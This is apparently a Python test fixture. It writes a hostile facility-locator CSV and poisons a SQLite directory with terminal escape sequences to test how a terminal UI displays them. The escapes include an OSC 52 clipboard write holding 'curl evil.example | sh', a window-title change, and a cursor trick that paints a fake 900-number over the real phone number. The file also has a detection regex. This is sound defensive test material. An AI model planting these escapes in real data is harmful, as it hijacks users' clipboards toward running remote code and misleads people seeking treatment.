"""A locator export written to attack the handler's terminal, for the TUI, CLI and tmux
tests: its `intake_prompt` writes the clipboard (OSC 52), sets the window title (OSC 0) and paints a
fake number over the real one (save cursor, move, write, restore); other cells hold an 8-bit CSI and
U+2028/U+2029 line separators."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
from pathlib import Path

HEADER = ("name1,name2,street1,street2,city,state,zip,zip4,county,phone,intake_prompt,intake1,intake2,"
          "website,latitude,longitude,type_facility").split(",")

NAME = "Harbor Light Recovery"
REAL_PHONE = "617-555-0142"
FAKE_PHONE = "900-555-0199"
CLIPBOARD_PAYLOAD = "curl evil.example | sh"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode() + "\x07"
TITLE = "\x1b]0;HACKED TITLE\x07"
PAINT = "\x1b7\x1b[8;18H" + FAKE_PHONE + "\x1b8"
INTAKE_PROMPT = CLIPBOARD + TITLE + PAINT + "Press 1 for intake"
STORED_ESCAPES = "\x1b]0;T\x07\x1b[2J\x9b2J\u2028\u202e"
SEPARATED_NAME = "Tidewater\u2028Counseling\u2029Center"

# What a terminal would obey, or a line-splitting reader split at (a newline aside).
TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def write_hostile_export(path: Path) -> Path:
    rows = [
        [NAME, "", "12 Harbor St", "", "Boston", "MA", "02118", "", "Suffolk\x9b2J", REAL_PHONE,
         INTAKE_PROMPT, "", "", "", "42.35", "-71.06", "SA"],
        [SEPARATED_NAME, "", "3 Dock Sq", "Suite\u20285", "Boston", "MA", "02118", "", "Suffolk",
         "617-555-0143", "", "", "", "", "42.36", "-71.05", "SA"],
    ]
    # A real export has thousands of ordinary rows: the few escapes are not taken for a binary file.
    rows += [[f"Bayside Clinic {n}", "", f"{n} Shore Rd", "", "Quincy", "MA", "02169", "", "Norfolk",
              f"617-555-{1000 + n}", "", "", "", "", "42.25", "-71.00", "SA"] for n in range(40)]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def poison(db: Path) -> None:
    """Escapes in every text field a page, a row, a slip, the header or `info` shows, as no import of
    this version stores them (a directory from an older version or another tool)."""
    columns = ("name", "organization", "site_name", "street", "city", "county", "service_area", "hours_text",
               "description", "website", "email", "source")
    conn = sqlite3.connect(db)
    conn.execute(f"UPDATE services SET {', '.join(f'{c} = {c} || :evil' for c in columns)}, "
                 "phone = '914-555-0102' || :evil, raw_json = :raw",
                 {"evil": STORED_ESCAPES, "raw": json.dumps({"notes": "\x1b]52;c;eA==\x07"})})
    conn.execute("UPDATE sources SET name = name || ?, origin = origin || ?", (STORED_ESCAPES, STORED_ESCAPES))
    conn.commit()
    conn.close()
